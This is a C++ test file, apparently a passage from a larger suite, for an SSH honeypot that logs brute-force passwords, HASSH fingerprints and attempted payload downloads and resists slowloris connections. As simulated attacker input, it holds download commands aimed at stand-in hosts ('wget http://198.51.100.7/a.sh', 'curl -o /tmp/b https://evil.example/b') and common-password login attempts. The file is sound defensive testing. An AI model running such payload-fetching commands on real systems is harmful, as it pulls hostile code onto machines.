  EXPECT_EQ(ssh::parse_client_hello(not_kex, h), ssh::HelloParse::kInvalid);
  EXPECT_EQ(ssh::parse_client_hello("SSH-2.0-x\r\n\x7f\xff\xff\xff\x04", h),
            ssh::HelloParse::kInvalid);
}

// A libssh client session to the honeypot's SSH service (host key not checked).
struct SshClient {
  explicit SshClient(uint16_t port) : s(ssh_new()) {
    int p = port;
    long timeout = 5;
    bool no = false;
    ssh_options_set(s, SSH_OPTIONS_HOST, "127.0.0.1");
    ssh_options_set(s, SSH_OPTIONS_PORT, &p);
    ssh_options_set(s, SSH_OPTIONS_TIMEOUT, &timeout);
    ssh_options_set(s, SSH_OPTIONS_PROCESS_CONFIG, &no);
    connected = ssh_connect(s) == SSH_OK;
  }
  ~SshClient() {
    ssh_disconnect(s);
    ssh_free(s);
  }
  int password(const char* user, const char* pw) { return ssh_userauth_password(s, user, pw); }
  ssh_session s;
  bool connected = false;
};

TEST_F(HoneypotFixture, SshLogsEveryPasswordWithClientVersionAndHassh) {
  settings_.max_attempts = 3;
  start({"ssh"});
  run();
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected) << ssh_get_error(c.s);
    EXPECT_EQ(c.password("root", "123456"), SSH_AUTH_DENIED);
    EXPECT_EQ(c.password("root", "p\xc3\xa4ss w\xff"), SSH_AUTH_DENIED);
    EXPECT_EQ(c.password("admin", "admin"), SSH_AUTH_DENIED);
    EXPECT_EQ(c.password("admin", "never"), SSH_AUTH_ERROR);  // disconnected after 3
  }
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected);
    EXPECT_EQ(c.password("oracle", ""), SSH_AUTH_DENIED);
  }
  auto evs = of_service(events(), "ssh");
  ASSERT_EQ(evs.size(), 4u);
  EXPECT_EQ(field(evs[0], "username"), "root");
  EXPECT_EQ(field(evs[0], "password"), "123456");
  EXPECT_EQ(field(evs[1], "password"), "p\xc3\xa4ss w\\xff");
  EXPECT_EQ(field(evs[2], "username"), "admin");
  EXPECT_EQ(field(evs[3], "username"), "oracle");
  EXPECT_EQ(field(evs[3], "password"), "");
  for (const auto& e : evs) {
    EXPECT_EQ(field(e, "client_version").substr(0, 15), "SSH-2.0-libssh_");
    EXPECT_EQ(field(e, "version").size(), 32u);  // HASSH
    EXPECT_EQ(field(e, "version"), field(evs[0], "version"));
    EXPECT_EQ(field(e, "tag"), "ssh-brute-force");
  }
  EXPECT_NE(field(evs[0], "event_id").substr(0, 16), field(evs[3], "event_id").substr(0, 16));
  auto st = (*hp_)->host().status();
  EXPECT_EQ(st["services"]["ssh"]["password_attempts"], 4);
  EXPECT_EQ(st["services"]["ssh"]["closed"]["max_attempts"], 1);
  ASSERT_EQ(st["services"]["ssh"]["hassh"].size(), 1u);
  EXPECT_EQ(st["services"]["ssh"]["hassh"][0]["hassh"], field(evs[0], "version"));
  EXPECT_EQ(st["services"]["ssh"]["hassh"][0]["connections"], 2);
  bool listed = false;
  for (const auto& l : st["listeners"])
    listed |= l["service"] == "ssh" && l["listen"] == "127.0.0.1:" + std::to_string(ports_["ssh"]);
  EXPECT_TRUE(listed);
  // The generated host keys are in the state directory, private.
  for (const char* k : {"ssh_host_ed25519_key", "ssh_host_ecdsa_key", "ssh_host_rsa_key"}) {
    fs::path p = dir_ / "state" / "ssh" / k;
    ASSERT_TRUE(fs::exists(p)) << p;
    EXPECT_EQ(fs::status(p).permissions() & fs::perms::all,
              fs::perms::owner_read | fs::perms::owner_write);
  }
}

std::string read_channel(ssh_channel ch, std::string_view until = {}) {
  std::string out;
  char buf[4096];
  for (;;) {
    int n = ssh_channel_read_timeout(ch, buf, sizeof buf, 0, 5000);
    if (n <= 0) break;
    out.append(buf, static_cast<size_t>(n));
    if (!until.empty() && out.find(until) != std::string::npos) break;
  }
  return out;
}

TEST_F(HoneypotFixture, SshMediumModeExecAndShellLogUrlsAndFetchNothing) {
  settings_.mode = "medium";
  start({"ssh"});
  run();
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected);
    EXPECT_EQ(c.password("root", "root"), SSH_AUTH_SUCCESS);
    ssh_channel ch = ssh_channel_new(c.s);
    ASSERT_EQ(ssh_channel_open_session(ch), SSH_OK);
    ASSERT_EQ(ssh_channel_request_exec(ch, "wget http://198.51.100.7/a.sh; uname -m"), SSH_OK);
    std::string out = read_channel(ch);
    EXPECT_NE(out.find("x86_64"), std::string::npos) << out;
    ssh_channel_free(ch);
  }
  {
    SshClient c(ports_["ssh"]);
    ASSERT_TRUE(c.connected);
    EXPECT_EQ(c.password("admin", "1234"), SSH_AUTH_SUCCESS);
    ssh_channel ch = ssh_channel_new(c.s);
    ASSERT_EQ(ssh_channel_open_session(ch), SSH_OK);
    ASSERT_EQ(ssh_channel_request_pty(ch), SSH_OK);
    ASSERT_EQ(ssh_channel_request_shell(ch), SSH_OK);
    EXPECT_NE(read_channel(ch, "$ ").find("admin@server:~$ "), std::string::npos);
    std::string cmd = "curl -o /tmp/b https://evil.example/b; whoami\n";
    ssh_channel_write(ch, cmd.data(), static_cast<uint32_t>(cmd.size()));
    std::string out = read_channel(ch, "admin\r\n");
    EXPECT_NE(out.find("Could not resolve host: evil.example"), std::string::npos) << out;
    ssh_channel_write(ch, "exit\n", 5);
    read_channel(ch);
    ssh_channel_free(ch);
  }
  auto evs = of_service(events(), "ssh");
  ASSERT_EQ(evs.size(), 4u);
  EXPECT_EQ(field(evs[0], "tag"), "ssh-login");
  EXPECT_EQ(field(evs[1], "tag"), "ssh-payload");
  EXPECT_EQ(field(evs[1], "payload_url"), "http://198.51.100.7/a.sh");
  EXPECT_EQ(field(evs[2], "tag"), "ssh-login");
  EXPECT_EQ(field(evs[2], "username"), "admin");
  EXPECT_EQ(field(evs[3], "payload_url"), "https://evil.example/b");
  EXPECT_EQ((*hp_)->host().status()["services"]["ssh"]["logins"], 2);
}

TEST_F(HoneypotFixture, LoginServicesSurviveGarbageHalfOpenAndSlowloris) {
  settings_.idle_timeout = 1s;
  start({"ssh", "telnet", "ftp", "mysql", "vnc"});
  run();
  std::string garbage;
  for (int i = 0; i < 4096; ++i) garbage.push_back(static_cast<char>((i * 7919) & 0xff));
  for (const auto& name : {"ssh", "telnet", "ftp", "mysql", "vnc"}) {
    // Garbage: answered or closed, never a crash.
    int g = connect_to(name);
    (void)!::send(g, garbage.data(), garbage.size(), MSG_NOSIGNAL);
    EXPECT_TRUE(closed_by_peer(g)) << name;
    ::close(g);
    // Half-open (connected, silent) and slowloris (a byte now and then, never a whole
    // message): both closed by the idle timeout or the input bounds.
    int idle = connect_to(name);
    auto t0 = std::chrono::steady_clock::now();
    EXPECT_TRUE(closed_by_peer(idle)) << name;
    EXPECT_LT(std::chrono::steady_clock::now() - t0, 4s) << name;
    ::close(idle);
  }
  // A valid attempt after all that is still logged: the services are alive.
  SshClient c(ports_["ssh"]);
  ASSERT_TRUE(c.connected);
  EXPECT_EQ(c.password("after", "garbage"), SSH_AUTH_DENIED);
  // Garbage made rows only where any line is a login (telnet); the rest logged nothing.
  auto evs = events();
  int after = 0;
  for (const auto& e : evs) {
    if (field(e, "application") == "ssh") {
      ++after;
      EXPECT_EQ(field(e, "username"), "after");
    } else {
      EXPECT_EQ(field(e, "application"), "telnet");
    }
  }
  EXPECT_EQ(after, 1);
  auto st = (*hp_)->host().status();
  EXPECT_GE(st["services"]["ssh"]["kex_failed"].get<int>() +
                st["services"]["ssh"]["hello_unparsed"].get<int>(),
            1);
  EXPECT_GE(st["services"]["ssh"]["closed"]["idle_timeout"].get<int>(), 1);
}

}  // namespace
}  // namespace vantage::honeypot
